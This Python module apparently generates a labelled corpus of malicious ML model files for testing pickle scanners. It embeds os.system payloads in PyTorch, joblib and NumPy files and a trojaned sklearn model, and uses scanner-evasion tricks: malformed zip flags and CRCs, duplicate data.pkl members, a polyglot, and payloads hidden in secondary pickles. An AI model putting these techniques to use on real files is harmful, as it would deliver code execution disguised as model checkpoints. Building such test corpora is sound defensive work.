"""Malicious pickles wrapped the way ML files carry them.

Torch zip checkpoints (including archives that only PyTorch's reader accepts), legacy
torch files (a sequence of pickles, or a tar), joblib dumps (plain and compressed), NumPy
``.npy`` / ``.npz`` object arrays, an archive inside an archive and a pickle/zip polyglot.
Each sample's ``loader:`` tag names the loader that executes it (see ``loaders.py``).
"""

from __future__ import annotations

import io
import operator
import os
import pickle
import pickletools
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import torch

from .payloads import Call, Payload
from .sample import Sample
from .zipwriter import FLAG_DATA_DESCRIPTOR, FLAG_ENCRYPTED, FLAG_UTF8, Member, write_zip

PKL = "MLW-PKL"


def _evil(p: Payload) -> Call:
    return Call(os.system, p.cmd)


def _tiny_state_dict() -> dict[str, torch.Tensor]:
    g = torch.Generator().manual_seed(0)
    return {
        "fc1.weight": torch.randn(8, 4, generator=g),
        "fc1.bias": torch.zeros(8),
        "fc2.weight": torch.randn(2, 8, generator=g),
    }


def _torch_zip(obj: Any) -> list[tuple[str, bytes]]:
    """``torch.save(obj)`` as (member name, bytes) pairs, in archive order."""
    buf = io.BytesIO()
    torch.save(obj, buf)
    with zipfile.ZipFile(buf) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def _malicious_zip_members(p: Payload) -> list[tuple[str, bytes]]:
    return _torch_zip({"state_dict": _tiny_state_dict(), "hook": _evil(p)})


def _rezip(members: list[tuple[str, bytes]], **per_member: Any) -> bytes:
    return write_zip([Member(n, d, **per_member) for n, d in members])


def _rezip_data_pkl(members: list[tuple[str, bytes]], **kw: Any) -> bytes:
    """Re-emit the archive with the options applied to ``data.pkl`` only."""
    return write_zip(
        [Member(n, d, **kw) if n.endswith("/data.pkl") else Member(n, d) for n, d in members]
    )


def _pickle_spans(data: bytes, count: int) -> list[tuple[int, int]]:
    """(start, end) of the first ``count`` pickles of a concatenation, read by opcode."""
    spans, start = [], 0
    f = io.BytesIO(data)
    for _ in range(count):
        f.seek(start)
        end = start
        for op, _arg, pos in pickletools.genops(f):
            if op.name == "STOP":
                end = (pos or 0) + 1
                break
        spans.append((start, end))
        start = end
    return spans


def _legacy_torch(obj: Any) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def _legacy_with_pickle_replaced(index: int, p: Payload) -> bytes:
    """A legacy checkpoint whose ``index``-th pickle is swapped for the payload.

    The legacy reader loads, in order: magic number, protocol version, sys_info, the object,
    then the storage keys; 2 (sys_info) and 4 (keys, after the real object) are missed by
    scanners that stop after the first pickle or after the main one.
    """
    data = _legacy_torch(_tiny_state_dict())
    start, end = _pickle_spans(data, 5)[index]
    if index == 4:
        # The reader still needs the key list: itemgetter(0)((keys, os.system(cmd))).
        keys = pickle.loads(data[start:end])
        payload = pickle.dumps(Call(operator.itemgetter(0), (keys, _evil(p))), protocol=2)
    else:
        payload = pickle.dumps(_evil(p), protocol=2)
    return data[:start] + payload + data[end:]


def _legacy_tar(p: Payload) -> bytes:
    """The pre-1.0 tar checkpoint: torch.load unpickles the ``storages`` member first."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for name, body in [
            ("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
            ("storages", pickle.dumps(_evil(p), protocol=2)),
            ("tensors", pickle.dumps(0, protocol=2)),
            ("pickle", pickle.dumps({}, protocol=2)),
        ]:
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
    return buf.getvalue()


def _renamed_folder(p: Payload) -> bytes:
    # torch takes the archive's top folder from the first record, whatever it is called.
    members = _malicious_zip_members(p)
    return write_zip(
        [Member(n.replace("archive/", "resnet50_final_v2/", 1), d) for n, d in members]
    )


def _deflated(p: Payload) -> bytes:
    # torch.save stores members 64-byte aligned and uncompressed; miniz reads deflate too.
    return _rezip(_malicious_zip_members(p), deflate=True, align=1)


def _bad_crc(p: Payload) -> bytes:
    # zipfile raises BadZipFile on read; torch's reader skips CRC checks.
    return _rezip_data_pkl(_malicious_zip_members(p), crc=0xDEADBEEF)


def _encrypted_local_flag(p: Payload) -> bytes:
    # Setting the bit in the central directory too makes miniz refuse the file, so only the
    # local header claims encryption: streaming (local-header) parsers may skip the member.
    flags = FLAG_UTF8 | FLAG_ENCRYPTED
    return _rezip_data_pkl(_malicious_zip_members(p), local_flags=flags)


def _data_descriptor(p: Payload) -> bytes:
    # Sizes and CRC only after the data: parsers trusting the local header see 0 bytes.
    return _rezip(_malicious_zip_members(p), flags=FLAG_UTF8 | FLAG_DATA_DESCRIPTOR)


def _duplicate_data_pkl(p: Payload) -> bytes:
    """Several ``data.pkl`` entries: Python's zipfile reads the last (benign) one, PyTorch's
    reader (a binary search over names sorted by an unstable sort) lands on another.

    Which duplicate miniz picks depends on the member count, so probe it with harmless
    int-valued pickles (loaded with ``weights_only=True``) and put the payload there.
    """
    members = _malicious_zip_members(p)
    name = next(n for n, _ in members if n.endswith("/data.pkl"))
    others = [Member(n, d) for n, d in members if n != name]
    benign = dict(_torch_zip({"state_dict": _tiny_state_dict()}))[name]
    for count in range(2, 8):
        probe = write_zip(others + [Member(name, pickle.dumps(i, 2)) for i in range(count)])
        chosen = torch.load(io.BytesIO(probe), weights_only=True)
        if chosen != count - 1:
            dups = [
                Member(name, dict(members)[name] if i == chosen else benign) for i in range(count)
            ]
            return write_zip(others + dups)
    raise RuntimeError("no duplicate layout where torch and zipfile disagree")


def _polyglot(p: Payload) -> bytes:
    """A malicious pickle followed by a complete, benign torch zip.

    ``zipfile.is_zipfile`` finds the archive at the end, so a scanner may only look inside
    it; torch.load sees no zip magic at offset 0 and unpickles from the first byte.
    """
    benign = _rezip(_torch_zip(_tiny_state_dict()))
    return pickle.dumps(_evil(p), protocol=2) + benign


def _nested_zip(p: Payload) -> bytes:
    inner = _rezip(_malicious_zip_members(p))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("README.md", "Fine-tuned classifier. Load with torch.load.\n")
        z.writestr("checkpoints/model.pt", inner)
    return buf.getvalue()


def _joblib(obj: Any, path: Path, compress: Any = 0) -> None:
    joblib.dump(obj, path, compress=compress)


def _trojan_model(p: Payload) -> Any:
    """A genuinely fitted model (numpy/sklearn globals everywhere) carrying one extra attr."""
    from sklearn.linear_model import LogisticRegression

    x = np.random.default_rng(0).normal(size=(40, 3))
    model = LogisticRegression().fit(x, (x[:, 0] > 0).astype(int))
    model._callback = _evil(p)  # ends up in the BUILD state dict, among real attributes
    return model


def _npy_object(p: Payload) -> np.ndarray:
    arr = np.empty(2, dtype=object)
    arr[0] = "weights"
    arr[1] = _evil(p)
    return arr


# (file name, technique, loader, extra tags, writer)
Spec = tuple[str, str, str, tuple[str, ...], Callable[[Payload, Path], None]]


def _bytes(make: Callable[[Payload], bytes]) -> Callable[[Payload, Path], None]:
    def write(p: Payload, path: Path) -> None:
        path.write_bytes(make(p))

    return write


def _specs() -> list[Spec]:
    zf = ("torch-zip",)
    flags = ("torch-zip", "zip-flags")
    lg = ("torch-legacy",)
    jl = ("joblib",)
    np_ = ("numpy",)
    return [
        ("torch_save_object.pt", "container:torch.save of a __reduce__ object", "torch", zf,
         _bytes(lambda p: _rezip(_torch_zip(_evil(p))))),
        ("torch_state_dict_injected.pth", "container:real state_dict with an injected object",
         "torch", zf, _bytes(lambda p: _rezip(_malicious_zip_members(p)))),
        ("torch_zip_renamed_folder.pt", "container:torch zip with arbitrary top folder name",
         "torch", zf, _bytes(_renamed_folder)),
        ("torch_zip_deflated.pt", "container:torch zip with deflated, unaligned members",
         "torch", zf, _bytes(_deflated)),
        ("torch_zip_bad_crc.pt", "container:torch zip data.pkl with wrong CRC-32", "torch",
         flags, _bytes(_bad_crc)),
        ("torch_zip_encrypted_flag_local.pt",
         "container:torch zip with encrypted bit set in the local header only", "torch", flags,
         _bytes(_encrypted_local_flag)),
        ("torch_zip_data_descriptor.pt",
         "container:torch zip with data-descriptor flag and zeroed local sizes", "torch", flags,
         _bytes(_data_descriptor)),
        ("torch_zip_duplicate_data_pkl.pt",
         "container:duplicate data.pkl members (zipfile reads a benign one)", "torch",
         (*flags, "zip-dup"), _bytes(_duplicate_data_pkl)),
        ("model_archive.zip", "container:torch checkpoint inside a zip archive", "zip-torch",
         ("nested-zip",), _bytes(_nested_zip)),
        ("pickle_zip_polyglot.pt", "container:pickle prepended to a benign torch zip", "torch",
         ("polyglot",), _bytes(_polyglot)),
        ("plain_pickle_named.pt", "container:plain pickle with a .pt extension", "torch",
         ("extension",), _bytes(lambda p: pickle.dumps(_evil(p), protocol=2))),
        ("legacy_torch_object.pt", "container:legacy torch format, payload in the object",
         "torch", lg, _bytes(lambda p: _legacy_torch({"sd": _tiny_state_dict(), "x": _evil(p)}))),
        ("legacy_torch_sys_info.pt", "container:legacy torch, payload in the sys_info pickle",
         "torch", lg, _bytes(lambda p: _legacy_with_pickle_replaced(2, p))),
        ("legacy_torch_storage_keys.pt",
         "container:legacy torch, payload in the storage-keys pickle after the object", "torch",
         lg, _bytes(lambda p: _legacy_with_pickle_replaced(4, p))),
        ("legacy_torch_tar.pt", "container:legacy tar checkpoint, payload in 'storages'",
         "torch", lg, _bytes(_legacy_tar)),
        ("joblib_plain.joblib", "container:joblib.dump", "joblib", jl,
         lambda p, path: _joblib(_evil(p), path)),
        *[
            (f"joblib_{c}.joblib", f"container:joblib.dump compress={c}", "joblib", jl,
             lambda p, path, c=c: _joblib(_evil(p), path, (c, 3)))
            for c in ("zlib", "gzip", "bz2", "lzma")
        ],
        ("joblib_after_array.joblib", "container:joblib payload after raw numpy array bytes",
         "joblib", jl, lambda p, path: _joblib(
             {"coef": np.arange(50_000, dtype=np.float64), "post": _evil(p)}, path)),
        ("numpy_object.npy", "container:.npy with dtype=object element", "numpy", np_,
         lambda p, path: np.save(path, _npy_object(p), allow_pickle=True)),
        ("numpy_object.npz", "container:.npz holding an object array", "numpy-npz", np_,
         lambda p, path: np.savez(path, weights=np.ones(4), meta=_npy_object(p))),
        ("sklearn_trojan.joblib", "container:fitted sklearn model with a payload attribute",
         "joblib", jl, lambda p, path: _joblib(_trojan_model(p), path, 3)),
    ]  # fmt: skip


def build_container_attacks(out_dir: Path, marker: Path) -> list[Sample]:
    payload = Payload(marker)
    samples = []
    for fname, technique, loader, tags, write in _specs():
        path = out_dir / fname
        write(payload, path)
        name = fname.rsplit(".", 1)[0]
        samples.append(Sample(name, path, "malicious", technique, PKL, (*tags, f"loader:{loader}")))
    return samples
